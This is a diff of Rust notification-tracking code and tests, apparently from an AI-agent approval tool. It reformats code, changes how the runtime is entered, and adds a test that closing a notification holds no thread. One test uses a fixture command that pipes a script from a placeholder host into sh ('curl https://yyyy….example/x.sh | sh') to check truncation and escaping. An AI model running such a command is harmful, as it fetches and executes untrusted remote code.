@@ -253,8 +253,7 @@ impl Tracker {
             if shown.items.len() == before {
                 return true;
             }
-            if shown.items.is_empty() || !matches!(shown.announcement, Announcement::Burst { .. })
-            {
+            if shown.items.is_empty() || !matches!(shown.announcement, Announcement::Burst { .. }) {
                 effects.push(Effect::Close {
                     serial: shown.serial,
                 });
@@ -888,18 +887,24 @@ mod tests {
         else {
             panic!("no burst shown");
         };
-        let Some(Effect::Show { serial: one, .. }) =
-            tracker.announce(vec![pending("d")], |_| true)
+        let Some(Effect::Show { serial: one, .. }) = tracker.announce(vec![pending("d")], |_| true)
         else {
             panic!("no notification shown");
         };
         let gone = |ids: &[&'static str]| ids.iter().copied().collect::<HashSet<&str>>();
         assert_eq!(tracker.withdraw(&gone(&["x"])), []);
         match tracker.withdraw(&gone(&["a"])).as_slice() {
-            [Effect::Replace {
-                serial,
-                announcement: Announcement::Burst { count: 2, summary, body },
-            }] if *serial == burst => {
+            [
+                Effect::Replace {
+                    serial,
+                    announcement:
+                        Announcement::Burst {
+                            count: 2,
+                            summary,
+                            body,
+                        },
+                },
+            ] if *serial == burst => {
                 assert_eq!(summary, "2 tool calls waiting");
                 assert_eq!(body, "write_file: a.txt\nwrite_file: a.txt");
             }
@@ -1147,7 +1152,10 @@ mod tests {
         let recorder = BusRecorder::start();
         let (_data, runtime, engine) = test_engine();
         let (events, receiver) = broadcast::channel(16);
-        let _following = runtime.block_on(async { follow(engine.clone(), receiver, |_| {}) });
+        let _following = {
+            let _in_runtime = runtime.enter();
+            follow(engine.clone(), receiver, |_| {})
+        };
         let tail = format!("{}.example/x.sh | sh", "y".repeat(90));
         let long = format!("git status && curl https://{tail}");
         let burst = [
@@ -1174,7 +1182,8 @@ mod tests {
         assert!(
             text.contains("run_command: git status &amp;&amp; curl https://yy …")
                 && text.contains(" … ")
-                && text.contains("yyyy.example/x.sh | sh\nwrite_file: notes/&lt;b&gt;&amp;amp;.txt"),
+                && text
+                    .contains("yyyy.example/x.sh | sh\nwrite_file: notes/&lt;b&gt;&amp;amp;.txt"),
             "{text}"
         );
         assert!(text.contains("and 1 more"), "{text}");
@@ -1218,6 +1227,39 @@ mod tests {
         });
         events.send(decided(&["apr_b4"])).unwrap();
         recorder.closed(shown.id);
+    }
+
+    /// Finding (issue 27): each notification held a blocking thread until the person answered
+    /// it, so the runtime (and the resident's Quit) waited for a notification on screen. The
+    /// runtime now ends at once, a notification on screen or not.
+    #[test]
+    #[ignore = "needs a D-Bus session with a notification daemon; run through scripts/e2e.sh"]
+    fn a_notification_on_screen_holds_no_thread() {
+        let recorder = BusRecorder::start();
+        let (_data, runtime, engine) = test_engine();
+        let (events, receiver) = broadcast::channel(16);
+        let _following = {
+            let _in_runtime = runtime.enter();
+            follow(engine.clone(), receiver, |_| {})
+        };
+        events
+            .send(EngineEvent::ApprovalRequested {
+                item: Box::new(pending("apr_on_screen")),
+            })
+            .unwrap();
+        recorder.notified("the notification", |n| {
+            n.text.contains("Allow tool call from files?")
+        });
+        // A plain drop waits for every blocking task the runtime has.
+        let (dropped_tx, dropped) = std::sync::mpsc::channel();
+        std::thread::spawn(move || {
+            drop(runtime);
+            let _ = dropped_tx.send(());
+        });
+        dropped
+            .recv_timeout(Duration::from_secs(2))
+            .expect("the runtime still waits for the notification on screen");
+        drop(engine);
     }
 
     /// Waits for the session's request to be pending.
@@ -1339,7 +1381,12 @@ mod tests {
             engine.wait_turn("b").await.unwrap().status,
             airlock_core::TurnStatus::Completed
         );
-        assert!(!engine.workspace().join("denied-from-the-daemon.txt").exists());
+        assert!(
+            !engine
+                .workspace()
+                .join("denied-from-the-daemon.txt")
+                .exists()
+        );
         let told = model
             .requests()
             .iter()
@@ -1364,11 +1411,12 @@ mod tests {
         let (events, receiver) = broadcast::channel(16);
         let (opened_tx, opened) = std::sync::mpsc::channel();
         let opened_tx = std::sync::Mutex::new(opened_tx);
-        let _following = runtime.block_on(async {
+        let _following = {
+            let _in_runtime = runtime.enter();
             follow(engine.clone(), receiver, move |id| {
                 let _ = opened_tx.lock().unwrap().send(id);
             })
-        });
+        };
         events
             .send(EngineEvent::ApprovalRequested {
                 item: Box::new(question("apr_q", "Which <b>colour</b> & size?")),
@@ -1400,7 +1448,9 @@ mod tests {
         );
         choose_through_the_daemon(shown.id, ACTION_OPEN);
         assert_eq!(
-            opened.recv_timeout(WAIT).expect("Open never showed the inbox"),
+            opened
+                .recv_timeout(WAIT)
+                .expect("Open never showed the inbox"),
             Some("apr_q".to_string())
         );
     }
